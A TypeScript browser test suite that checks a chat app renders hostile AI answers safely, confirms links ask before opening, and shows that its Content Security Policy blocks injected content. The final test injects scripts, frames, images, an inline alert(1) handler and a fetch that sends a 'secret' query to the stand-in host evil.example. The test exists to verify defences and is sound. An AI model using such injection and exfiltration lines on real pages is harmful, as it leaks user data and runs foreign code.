/**
 * Answers that attack, in a real browser with the real policy: nothing runs, no request leaves for anywhere but our own
 * services, and nothing even tries to (the policy has nothing to stop). The last test proves that the policy would.
 */
import { audienceOf, conversationSummary } from '@cloudfreedom/contracts';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CORPUS } from '../../../apps/chat/test/hostile/corpus.ts';
import { accessToken, newPerson, type Person, stack } from './people.ts';
import { accessibilityFaults, closeBrowser, executablePath, openBrowser, signIn, visit, why } from './visit.ts';

type Visit = Awaited<ReturnType<typeof visit>>;

/** A conversation with these answers, stored as the chat stores them. @returns its id */
async function storedConversation(person: Person, answers: readonly string[]): Promise<string> {
  const token = await accessToken(person.session, audienceOf.conversations(stack.tenant.id));
  const post = (path: string, body: unknown) =>
    fetch(`${stack.urls.conversations}/v1/conversations${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
  const { id } = conversationSummary.parse(await (await post('', { title: 'Attacks' })).json());
  for (const content of answers) {
    const message = { id: crypto.randomUUID(), role: 'assistant', content, model: null, chargeEur: null };
    expect((await post(`/${id}/messages`, message)).status).toBe(201);
  }
  return id;
}

/** Everything that a page does which it should not. */
function watch({ page, complaints }: Visit) {
  const own = new Set([stack.urls.chat, ...Object.values(stack.urls)].map((url) => new URL(url).origin));
  page.setDefaultTimeout(60_000);
  const faults: string[] = complaints;
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url());
    if (protocol !== 'data:' && !own.has(origin)) faults.push(`request to ${request.url()}`);
  });
  page.on('dialog', (dialog) => {
    faults.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on('page', (opened) => faults.push(`window ${opened.url()}`));
  page.on('framenavigated', (frame) => {
    if (new URL(frame.url()).origin !== new URL(stack.urls.chat).origin) faults.push(`went to ${frame.url()}`);
  });
  return faults;
}

const texts = CORPUS.map(({ text }) => text).filter((text) => !text.includes('\u0000'));

describe.skipIf(!executablePath)(`hostile answers${why}`, { timeout: 240_000 }, () => {
  beforeAll(openBrowser);
  afterAll(closeBrowser);

  test('kept ones are shown without a request, a script or a violation, and their links ask first', async () => {
    const person = await newPerson();
    const id = await storedConversation(person, texts);
    const opened = await visit(stack.urls.chat);
    const faults = watch(opened);
    const { page } = opened;
    await signIn(page, person);
    await page.getByRole('textbox', { name: 'Your message' }).waitFor();
    await page.goto(`${stack.urls.chat}/c/${id}`);
    await page.locator('.katex').first().waitFor();
    await page
      .locator('.chat-markdown')
      .nth(texts.length - 1)
      .waitFor();
    const links = page.locator('.chat-markdown [role=link]');
    expect(await links.count()).toBeGreaterThan(15);
    expect(await page.locator('.chat-thread a, .chat-thread img, .chat-thread iframe, .chat-thread form').count()).toBe(
      0,
    );
    expect(
      await page.evaluate(
        'document.querySelectorAll(".chat-thread [src], .chat-thread [href], .chat-thread [srcset]").length',
      ),
    ).toBe(0);
    const tricky = page.getByRole('link', { name: /^read more \(evil\.example\)/ });
    await tricky.click();
    const dialog = page.getByRole('dialog', { name: 'Open evil.example?' });
    await dialog.getByText('https://evil.example/?q=the+secret+plan#more').waitFor();
    await dialog.getByText(/carries more than a place/).waitFor();
    expect(await accessibilityFaults(page)).toEqual([]);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'detached' });
    await tricky.click({ button: 'middle' });
    await tricky.click({ modifiers: ['Control'] });
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    expect(faults).toEqual([]);
  });

  test('streamed ones too, piece by piece, in German', async () => {
    const person = await newPerson({ locale: 'de' });
    const opened = await visit(stack.urls.chat, { locale: 'de-DE' });
    const faults = watch(opened);
    const { page } = opened;
    const pieces = texts
      .filter((text) => text.length < 400 && !text.includes('[^1]'))
      .flatMap((text) => [...(text.match(/[\s\S]{1,9}/g) ?? []), '\n\n']);
    const events = pieces.map((content) => `data: ${JSON.stringify({ choices: [{ delta: { content } }] })}\n\n`);
    await page.route('**/v1/chat/completions', (route) =>
      route.fulfill({
        contentType: 'text/event-stream',
        headers: { 'access-control-allow-origin': new URL(stack.urls.chat).origin },
        body: `${events.join('')}data: [DONE]\n\n`,
      }),
    );
    await signIn(page, person);
    await page.getByRole('textbox', { name: 'Ihre Nachricht' }).fill('Greif an');
    await page.getByRole('button', { name: /^Modell: / }).waitFor();
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/c\//);
    await page.getByRole('link', { name: /^read more \(evil\.example\)\s*, fragt vor dem Öffnen/ }).click();
    await page
      .getByRole('dialog', { name: 'evil.example öffnen?' })
      .getByText(/erfährt evil\.example alles/)
      .waitFor();
    expect(faults).toEqual([]);
  });

  test('the policy stops what a fault of ours would let through', async () => {
    const { page } = await visit(stack.urls.chat);
    const outcomes: string[] = [];
    page.on('requestfailed', (request) => outcomes.push(request.failure()?.errorText ?? ''));
    page.on('requestfinished', (request) => outcomes.push(`reached ${request.url()}`));
    const stopped = await page.evaluate(`(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
      add('img', { src: 'https://evil.example/p.png?q=secret' });
      add('script', { src: 'https://evil.example/a.js' });
      add('script', { textContent: 'alert(1)' });
      add('iframe', { src: 'https://evil.example/' });
      add('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' });
      add('object', { data: 'https://evil.example/x' });
      add('video', { src: 'https://evil.example/v.mp4' });
      document.body.setAttribute('onclick', 'alert(1)');
      await fetch('https://evil.example/?q=secret').catch(() => undefined);
      while (new Set(violations).size < 8) await new Promise((resolve) => setTimeout(resolve, 20));
      return [...new Set(violations)].sort();
    })()`);
    expect(stopped).toEqual([
      'connect-src',
      'frame-src',
      'img-src',
      'media-src',
      'object-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]);
    expect(outcomes.filter((outcome) => outcome.includes('evil.example'))).toEqual([]);
    expect(outcomes).toContain('csp');
  });
});
